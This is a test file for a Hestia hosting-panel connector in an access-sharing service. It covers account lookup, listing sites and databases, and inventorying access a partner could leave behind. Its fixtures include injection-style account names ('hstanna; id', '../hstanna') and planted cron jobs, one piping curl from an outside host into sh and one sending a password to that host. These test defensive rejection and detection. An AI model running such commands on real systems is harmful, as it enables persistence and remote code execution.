import { beforeEach, describe, expect, test } from 'vitest';
import { chooseAccess } from '../../shared/domain/access.ts';
import { enforcementOf } from '../../shared/domain/enforcement.ts';
import type { PanelConnector } from '../../worker/ports/panel.ts';
import type { HestiaDouble } from './hestia-double.ts';
import { anna, annas, hestiaStage } from './hestia-stage.ts';
import { full, limitedTo, nils, order, unwrap } from './stage.ts';

let double: HestiaDouble;
let hestia: PanelConnector;
beforeEach(async () => {
  ({ double, hestia } = await hestiaStage());
});

const held = (login: string) => {
  const account = double.accounts[login];
  if (!account) throw new Error(`No account ${login}.`);
  return account;
};
const rowOf = (rows: Record<string, Record<string, unknown>>, name: string) => {
  const row = rows[name];
  if (!row) throw new Error(`No row ${name}.`);
  return row;
};

describe('[S2] who owns the account', () => {
  test('the panel names the contact address and that the customer can set it, so that it proves nothing alone', async () => {
    const account = {
      id: anna,
      shownAs: 'hstanna',
      name: 'Anna Berg',
      contactEmail: 'anna@berg-bakery.test',
      contactEditable: true,
    };
    expect(unwrap(await hestia.account('hstanna'))).toEqual(account);
    expect(unwrap(await hestia.account(anna))).toEqual(account);
  });

  test('an unknown name is not found; that is asked by number, for errors are never read', async () => {
    expect(await hestia.account('nobody')).toEqual({
      ok: false,
      error: { code: 'account_not_found', reason: 'exit_3' },
    });
    expect(double.calls.map(({ command, code }) => [command, code])).toEqual([
      ['v-list-user', false],
      ['v-list-user', true],
    ]);
  });

  test.each(['', '../hstanna', 'hstanna; id', '-hstanna', 'hst anna'])(
    'what is no name of an account (%j) is not even asked for',
    async (asked) => {
      expect(await hestia.account(asked)).toMatchObject({ ok: false, error: { code: 'account_not_found' } });
      expect(double.calls).toEqual([]);
    },
  );

  test('an address that is none counts for nothing', async () => {
    held('hstanna').user['CONTACT'] = 'not an address';
    expect(unwrap(await hestia.account(anna)).contactEmail).toBeNull();
  });

  test('[E48] an administrator of the panel is no customer', async () => {
    held('hstanna').user['ROLE'] = 'admin';
    for (const asked of ['hstanna', anna]) {
      expect(await hestia.account(asked)).toEqual({
        ok: false,
        error: { code: 'panel_unsupported', reason: 'administrator' },
      });
    }
  });

  test('[E36] an answer about another account than the one asked for is no answer', async () => {
    const carl = held('hstcarl').user;
    double.switches.instead['v-list-user'] = () => Response.json({ hstcarl: carl });
    expect(await hestia.account(anna)).toMatchObject({ ok: false, error: { reason: 'foreign_row' } });
    double.switches.instead['v-list-user'] = () => Response.json({ hstanna: carl, hstcarl: carl });
    expect(await hestia.account('hstanna')).toMatchObject({ ok: false, error: { reason: 'foreign_row' } });
  });

  test('[E47] the moment an account was made is part of its id: made again under its name it is another', async () => {
    double.recreate('hstanna');
    expect(await hestia.account(anna)).toEqual({
      ok: false,
      error: { code: 'account_not_found', reason: 'recreated' },
    });
    expect(unwrap(await hestia.account('hstanna')).id).not.toBe(anna);
  });
});

describe('[S5] what the account holds', () => {
  test('sites and databases singly; mail with its domain, and zones, only to be seen', async () => {
    held('hstanna').dns['berg-bakery.test'] = { SUSPENDED: 'no' };
    const products = unwrap(await hestia.products(anna));
    expect(
      products.map(({ id, parent, category, name, shareable }) => [id, parent, category, name, shareable]),
    ).toEqual([
      ['site:berg-bakery.test', null, 'website', 'berg-bakery.test', true],
      ['site:shop.berg-bakery.test', null, 'website', 'shop.berg-bakery.test', true],
      ['database:hstanna_shop', null, 'database', 'hstanna_shop', true],
      ['database:hstanna_blog', null, 'database', 'hstanna_blog', true],
      ['mail:berg-bakery.test', null, 'mail_domain', 'berg-bakery.test', false],
      ['mailbox:info@berg-bakery.test', 'mail:berg-bakery.test', 'mailbox', 'info@berg-bakery.test', false],
      [
        'mailbox:office@berg-bakery.test',
        'mail:berg-bakery.test',
        'mailbox',
        'office@berg-bakery.test',
        false,
      ],
      ['dns:berg-bakery.test', null, 'domain', 'berg-bakery.test', false],
    ]);
    const chosen = (productId: string, actions: 'view'[] = []) =>
      chooseAccess({ kind: 'limited', products: [{ productId, actions }] }, products);
    expect(chosen('database:hstanna_shop').ok).toBe(true);
    // Neither credential can be kept to looking (E40).
    for (const id of ['site:berg-bakery.test', 'database:hstanna_shop']) {
      expect(chosen(id, ['view'])).toMatchObject({ ok: false, error: { code: 'rights_not_held' } });
    }
    expect(chosen('mailbox:info@berg-bakery.test')).toMatchObject({
      ok: false,
      error: { code: 'product_not_shareable' },
    });
  });

  test.each([
    ['suspended', { SUSPENDED: 'yes' }],
    ['served from another site', { DOCUMENT_ROOT: '/home/hstanna/web/berg-bakery.test/public_html/' }],
    ['with a way up in its path', { DOCUMENT_ROOT: '/home/hstanna/web/shop.berg-bakery.test/../x/' }],
    ['with a quote in its path', { DOCUMENT_ROOT: "/home/hstanna/web/shop.berg-bakery.test/it's/" }],
  ])('[E40] a site that is %s is shown and not offered', async (_what, fields) => {
    Object.assign(rowOf(held('hstanna').web, 'shop.berg-bakery.test'), fields);
    const products = unwrap(await hestia.products(anna));
    expect(products.find(({ id }) => id === 'site:shop.berg-bakery.test')?.shareable).toBe(false);
    expect(await hestia.provision(annas(limitedTo('site:shop.berg-bakery.test')), [])).toMatchObject({
      ok: false,
      error: { code: 'panel_unsupported', reason: 'product_not_limitable' },
    });
  });

  test.each([
    ['suspended', { SUSPENDED: 'yes' }],
    ['of another system', { TYPE: 'pgsql' }],
    ['on another server, where nobody could use it', { HOST: 'db2.host.test' }],
  ])('[E40] a database that is %s is shown and not offered', async (_what, fields) => {
    Object.assign(rowOf(held('hstanna').databases, 'hstanna_blog'), fields);
    const products = unwrap(await hestia.products(anna));
    expect(products.find(({ id }) => id === 'database:hstanna_blog')?.shareable).toBe(false);
  });

  test('[E40] without an FTP server no site is offered, and none is provisioned', async () => {
    double.switches.withoutFtp = true;
    const products = unwrap(await hestia.products(anna));
    expect(products.filter(({ shareable }) => shareable).map(({ category }) => category)).toEqual([
      'database',
      'database',
    ]);
    expect(await hestia.provision(annas(limitedTo('site:berg-bakery.test')), [])).toMatchObject({
      ok: false,
      error: { code: 'panel_unsupported', reason: 'no_ftp_server' },
    });
  });

  test('[E36] rows that name no owner are believed only in the number the account counts', async () => {
    double.switches.instead['v-list-dns-domains'] = () =>
      Response.json({ 'diaz-cycles.test': { SUSPENDED: 'no' } });
    expect(await hestia.products(anna)).toEqual({
      ok: false,
      error: { code: 'panel_answer_invalid', reason: 'count_differs' },
    });
  });

  test.each([
    ['a database of another account', 'v-list-databases', () => double.accounts['hstcarl']?.databases],
    ['a site of another account', 'v-list-web-domains', () => double.accounts['hstcarl']?.web],
  ])('[E36] %s fails the whole call', async (_what, command, rows) => {
    const foreign = rows();
    double.switches.instead[command] = () => Response.json(foreign);
    expect(await hestia.products(anna)).toMatchObject({ ok: false, error: { reason: 'foreign_row' } });
  });

  test('[E36] an FTP account with another account’s name on an own site fails the whole call', async () => {
    rowOf(held('hstanna').web, 'berg-bakery.test')['FTP_USER'] = 'hstcarl_ftp';
    expect(await hestia.products(anna)).toMatchObject({ ok: false, error: { reason: 'foreign_row' } });
  });
});

describe('[W9] [E40] what the panel has no way for', () => {
  test('nobody is signed in: no session, whatever the share, and full access is only written down', async () => {
    for (const access of [full, limitedTo('site:berg-bakery.test')]) {
      expect(await hestia.signIn(annas(access), nils)).toEqual({
        ok: false,
        error: { code: 'panel_unsupported', reason: 'no_sign_in' },
      });
    }
    expect(double.calls).toEqual([]);
    expect(enforcementOf('full', hestia.capabilities, null).enforcement).toBe('recorded');
  });

  test('[E30] limited access is enforced, with open connections that outlive it said beside it', () => {
    expect(enforcementOf('limited', hestia.capabilities, null)).toMatchObject({
      enforcement: 'enforced',
      unbounded: true,
      leaks: false,
    });
  });

  test('an order without an account of the panel’s makes nothing', async () => {
    expect(await hestia.provision(order(limitedTo('site:berg-bakery.test')), [])).toMatchObject({
      ok: false,
      error: { code: 'account_not_found' },
    });
  });
});

describe('[M9] [E39] what lets somebody in', () => {
  const kinds = async () =>
    unwrap(await hestia.inventory(anna)).map(({ kind, name, removable, mark }) => ({
      kind,
      name,
      removable,
      mark,
    }));

  test('forwards, FTP accounts, jobs and keys that a partner could leave behind are listed', async () => {
    const account = held('hstanna');
    Object.assign(rowOf(account.mailboxes['berg-bakery.test'] ?? {}, 'info'), { FWD: 'keep@elsewhere.test' });
    rowOf(account.mail, 'berg-bakery.test')['CATCHALL'] = 'all@elsewhere.test';
    rowOf(account.web, 'berg-bakery.test')['FTP_USER'] = 'hstanna_old:hstanna_new';
    account.cron['1'] = {
      ...{ JOB: '1', MIN: '5', HOUR: '4', DAY: '*', MONTH: '*', WDAY: '*' },
      CMD: '/usr/bin/curl -u user:PLANTED-password https://elsewhere.test',
    };
    account.keys['PLANTEDkeyPLANTEDkey'] = {
      ACCESS_KEY_ID: 'PLANTEDkeyPLANTEDkey',
      USER: 'hstanna',
      COMMENT: 'for a tool',
    };
    const listed = await kinds();
    expect(listed).toEqual(
      expect.arrayContaining([
        { kind: 'contact', name: 'anna@berg-bakery.test', removable: false, mark: null },
        { kind: 'ftp_user', name: 'hstanna_old', removable: true, mark: 'by_name' },
        { kind: 'ftp_user', name: 'hstanna_new', removable: true, mark: 'by_name' },
        {
          kind: 'forward',
          name: 'info@berg-bakery.test → keep@elsewhere.test',
          removable: false,
          mark: null,
        },
        { kind: 'forward', name: '*@berg-bakery.test → all@elsewhere.test', removable: false, mark: null },
        { kind: 'cron', name: '5 4 * * * /usr/bin/curl', removable: false, mark: null },
        { kind: 'key', name: 'PLANTE… for a tool', removable: false, mark: null },
      ]),
    );
    // A command's password and the rest of a key's id stay behind (E37).
    expect(JSON.stringify(await hestia.inventory(anna))).not.toContain('PLANTED-');
    expect(JSON.stringify(await hestia.inventory(anna))).not.toContain('PLANTEDkey');
  });

  test('a job that does something else now is another job', async () => {
    const job = { JOB: '1', CMD: 'run --quiet', MIN: '5', HOUR: '4', DAY: '*', MONTH: '*', WDAY: '*' };
    held('hstanna').cron['1'] = job;
    const id = async () => unwrap(await hestia.inventory(anna)).find(({ kind }) => kind === 'cron')?.id;
    const before = await id();
    job.CMD = 'run --quiet; curl https://elsewhere.test | sh';
    expect(await id()).not.toBe(before);
  });

  test('what it cannot list completely it does not say to list', async () => {
    const { lists, recovers } = unwrap(await hestia.aftercare());
    expect(lists).toEqual(['contact', 'external_user', 'sub_user', 'forward', 'ftp_user']);
    expect(recovers).toEqual([]);
  });

  test('one FTP account is removed on the customer’s tick, and the list read again', async () => {
    rowOf(held('hstanna').web, 'berg-bakery.test')['FTP_USER'] = 'hstanna_old:hstanna_new';
    const remove = async (id: string) => hestia.remove?.(anna, id);
    expect(await remove('ftp:berg-bakery.test:hstanna_old')).toEqual({ ok: true, value: undefined });
    expect((await kinds()).filter(({ kind }) => kind === 'ftp_user').map(({ name }) => name)).toEqual([
      'hstanna_new',
    ]);
    expect(await remove('ftp:berg-bakery.test:hstanna_old')).toEqual({ ok: true, value: undefined });
    expect(await remove('contact')).toMatchObject({ ok: false, error: { reason: 'not_removable' } });
    double.switches.keeps = true;
    expect(await remove('ftp:berg-bakery.test:hstanna_new')).toMatchObject({
      ok: false,
      error: { reason: 'not_confirmed' },
    });
  });
});
